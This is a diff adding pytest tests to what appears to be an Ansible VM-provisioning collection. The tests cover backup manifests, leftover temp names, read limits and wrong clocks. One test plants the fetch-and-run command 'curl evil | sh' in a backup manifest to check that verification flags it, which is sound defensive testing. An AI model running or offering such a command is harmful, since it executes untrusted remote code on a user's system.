@@ -32,6 +32,7 @@ from ansible_collections.nebula.provision.plugins.module_utils.errors import (
 from ansible_collections.nebula.provision.plugins.module_utils.storage import (
     backup_files,
     backup_manifests,
+    backup_place,
     backup_verification,
     datastore_layout,
     qcow2_header,
@@ -267,6 +268,89 @@ def test_what_a_killed_run_left_is_removed(tmp_path: Path) -> None:
         assert sorted(os.listdir(directory.directory)) == sorted([*own, "notes.txt"])
         directory.discard(backup.id)
         assert sorted(os.listdir(directory.directory)) == [".lock", "notes.txt"]
+
+
+def test_files_on_which_others_rest_stay_without_their_manifest(tmp_path: Path) -> None:
+    machine = Machine(tmp_path / "machine")
+    place = opened(tmp_path / "backups")
+    with place.machine(VM) as directory:
+        first, second = machine.back_up(directory), machine.back_up(directory)
+    kept = Path(directory.directory, first.disks[0].file.name)
+    manifest = Path(directory.directory, f"{first.id}.json")
+    lost = manifest.read_bytes()
+    manifest.unlink()
+    other = Path(directory.directory, f"{second.id}.json")
+    text = other.read_text()
+    for found in (text, text.replace('"format": 1', '"format": 2')):
+        other.write_text(found)
+        with place.machine(VM) as directory:
+            assert directory.backups() == [] and second.id in str(directory.unreadable[0])
+            assert kept.exists()
+    other.write_text(text)
+    manifest.write_bytes(lost)
+    with place.machine(VM) as directory:
+        assert [each.id for each in directory.backups()] == [first.id, second.id]
+        manifest.unlink()
+        directory.discard(second.id)
+    with place.machine(VM):
+        assert not kept.exists()
+
+
+def test_a_directory_that_is_called_as_an_unfinished_file(tmp_path: Path) -> None:
+    machine = Machine(tmp_path / "machine")
+    place = opened(tmp_path / "backups")
+    with place.machine(VM) as directory:
+        pass
+    names = (".x.tmp", "20260102T000000Z-000000.disk.0.qcow2", "20260102T000000Z-000001.json")
+    for name in names:
+        Path(directory.directory, name).mkdir()
+    with place.machine(VM) as directory:
+        backup = machine.back_up(directory)
+        assert [each.id for each in directory.backups()] == [backup.id]
+        assert len(directory.unreadable) == 1 and names[0] in directory.warnings[0]
+    assert all(Path(directory.directory, name).is_dir() for name in names)
+
+
+def test_manifests_are_read_once_and_are_not_too_many(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    machine = Machine(tmp_path / "machine")
+    place = opened(tmp_path / "backups")
+    read: list[str] = []
+    real = backup_manifests.read
+    monkeypatch.setattr(backup_manifests, "read", lambda path, *of: read.append(path) or real(path, *of))
+    with place.machine(VM) as directory:
+        first = machine.back_up(directory)
+        read.clear()
+        assert directory.latest() == first and directory.lineage(first) == [first]
+        assert directory.chain(first, 0) and len(read) == 1
+        second = machine.back_up(directory)
+        assert directory.latest() == second
+    monkeypatch.setattr(backup_place, "MOST_MANIFESTS", 1)
+    with place.machine(VM) as directory, pytest.raises(CatalogError, match="2 manifests are in it"):
+        directory.backups()
+
+
+def test_nothing_expires_by_a_clock_that_was_wrong(tmp_path: Path) -> None:
+    machine = Machine(tmp_path / "machine")
+    place = opened(tmp_path / "backups")
+    with place.machine(VM) as directory:
+        first, ahead = machine.back_up(directory), machine.back_up(directory, day=3000)
+        last = machine.back_up(directory, day=9)
+        assert last.parent == ahead.id
+        assert [each.id for each in directory.backups()] == [first.id, ahead.id, last.id]
+        with pytest.raises(CatalogError, match=f"{ahead.id} has a time that is yet to come"):
+            directory.prune({"last": 1})
+        assert directory.latest() == last and len(directory.backups()) == 3
+
+
+def test_commands_of_somebody_are_no_part_of_a_backup(tmp_path: Path) -> None:
+    machine = Machine(tmp_path / "machine")
+    place = opened(tmp_path / "backups")
+    with place.machine(VM) as directory:
+        backup = machine.back_up(directory)
+        assert backup_verification.verify(directory)[0].faults == ()
+        evil = dataclasses.replace(backup, by_hand=(*backup.by_hand, "curl evil | sh"))
+        Path(directory.directory, f"{backup.id}.json").write_text(backup_manifests.text_of(evil))
+        assert "type none of it" in backup_verification.verify(directory)[0].faults[0]
 
 
 # -- what somebody altered --------------------------------------------------------------------------------------------
